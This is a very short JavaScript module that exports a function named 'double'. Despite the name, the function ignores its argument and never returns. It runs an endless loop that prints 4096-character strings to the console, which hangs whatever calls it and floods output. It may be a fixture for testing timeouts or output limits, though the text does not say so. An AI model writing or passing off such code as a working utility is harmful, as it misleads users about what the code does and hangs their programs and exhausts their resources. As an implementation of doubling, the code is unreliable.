function double(n) {
  while (true) console.log("x".repeat(4096));
}

module.exports = { double };
